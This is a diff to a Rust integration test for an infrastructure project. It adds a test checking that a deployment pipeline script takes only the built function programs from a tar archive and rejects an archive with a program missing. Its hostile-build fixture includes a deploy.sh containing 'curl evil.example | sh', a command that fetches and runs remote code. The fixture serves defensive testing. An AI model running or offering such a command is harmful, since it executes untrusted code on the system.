@@ -2,6 +2,7 @@
 //! each kind.
 #![allow(clippy::unwrap_used, clippy::panic, clippy::print_stderr, reason = "a test fails by panicking")]
 
+use serde_json::{Value, json};
 use sluice::cli::aws_local::{Purpose, Python, checkout};
 use std::{env, fs, path::Path, process::Command, sync::OnceLock};
 
@@ -13,14 +14,18 @@ const CHECK: Purpose = Purpose {
 
 static PYTHON: OnceLock<Python> = OnceLock::new();
 
+fn python() -> &'static Python {
+    PYTHON.get_or_init(|| {
+        let root = checkout().unwrap();
+        let found = Python::find(CHECK).and_then(|python| python.with_packages(&root, |what| eprintln!("{what}")));
+        found.unwrap_or_else(|missing| panic!("{missing}"))
+    })
+}
+
 /// Whether those parts of the check are content with the templates of a folder, and all that was said.
 fn checked(folder: &Path, parts: &[&str]) -> (bool, String) {
     let root = checkout().unwrap();
-    let python = PYTHON.get_or_init(|| {
-        let found = Python::find(CHECK).and_then(|python| python.with_packages(&root, |what| eprintln!("{what}")));
-        found.unwrap_or_else(|missing| panic!("{missing}"))
-    });
-    let mut check = python.command();
+    let mut check = python().command();
     check.arg(root.join("infra/check.py")).arg("--folder").arg(folder).args(parts);
     let output = check.output().unwrap();
     let said = format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
@@ -83,6 +88,65 @@ fn what_cfn_lint_finds_is_named() {
 fn what_checkov_finds_is_named() {
     let text = broken("warehouse-account.yaml", "skip: [{ id: CKV_AWS_27,", "skip: [{ id: CKV_AWS_1,");
     is_named("checkov", "warehouse-account.yaml", &text, &["CKV_AWS_27", "AWS::SQS::Queue.Orders"]);
+}
+
+/// What `infra/pipeline/bind.py` says to an archive, and the template that it makes.
+fn bound(members: &[(&str, &[u8])]) -> (bool, String, Option<Value>) {
+    let root = checkout().unwrap();
+    let folder = tempfile::tempdir().unwrap();
+    let (files, made) = (folder.path().join("files"), folder.path().join("made"));
+    for (name, content) in members {
+        let file = files.join(name);
+        fs::create_dir_all(file.parent().unwrap()).unwrap();
+        fs::write(file, content).unwrap();
+    }
+    let archive = folder.path().join("built.tar.gz");
+    let mut pack = Command::new("tar");
+    pack.args(["--create", "--gzip", "--file"]).arg(&archive).arg("--directory").arg(&files);
+    for entry in fs::read_dir(&files).unwrap() {
+        pack.arg(entry.unwrap().file_name());
+    }
+    assert!(pack.status().unwrap().success());
+    let mut bind = python().command();
+    let output = bind.arg(root.join("infra/pipeline/bind.py")).arg(&archive).arg(&made).output().unwrap();
+    let template = fs::read(made.join("template.json")).ok().map(|json| serde_json::from_slice(&json).unwrap());
+    let only_programs = |name: &str| name == "template.json" || made.join(name).join("bootstrap").is_file();
+    for entry in fs::read_dir(&made).into_iter().flatten() {
+        let name = entry.unwrap().file_name().into_string().unwrap();
+        assert!(only_programs(&name), "{name} came out of the archive");
+    }
+    (output.status.success(), String::from_utf8_lossy(&output.stderr).into_owned(), template)
+}
+
+#[test]
+fn a_deployment_takes_programs_from_what_was_built_and_nothing_else() {
+    let text = fs::read_to_string(checkout().unwrap().join("infra/template.yaml")).unwrap();
+    let functions: Vec<String> = text
+        .lines()
+        .zip(text.lines().skip(1))
+        .filter(|(_, kind)| kind.trim() == "Type: AWS::Serverless::Function")
+        .map(|(name, _)| format!("{}/bootstrap", name.trim().trim_end_matches(':')))
+        .collect();
+    assert!(functions.len() > 10, "{functions:?}");
+    let mut members: Vec<(&str, &[u8])> = functions.iter().map(|name| (name.as_str(), b"program".as_slice())).collect();
+    // What a build that means no good would like to be used.
+    members.extend([
+        ("template.yaml", b"Resources: {}".as_slice()),
+        ("deploy.sh", b"curl evil.example | sh"),
+        ("ApiFunction/template.json", b"{}"),
+    ]);
+    let (content, said, template) = bound(&members);
+    assert!(content, "{said}");
+    let template = template.unwrap();
+    let api = &template["Resources"]["ApiFunction"];
+    assert!(api["Properties"]["CodeUri"].as_str().unwrap().ends_with("/made/ApiFunction"), "{api}");
+    assert_eq!(api["Properties"]["Policies"][0], json!({ "Ref": "FunctionBasics" }));
+    let workflow = template["Resources"]["Checkout"]["Properties"]["DefinitionUri"].as_str().unwrap();
+    assert!(Path::new(workflow).is_file(), "{workflow}");
+
+    members.retain(|(name, _)| *name != "SweepFunction/bootstrap");
+    let (content, said, _) = bound(&members);
+    assert!(!content && said.contains("holds no program SweepFunction/bootstrap"), "{said}");
 }
 
 /// What the local AWS deploys is what was checked.
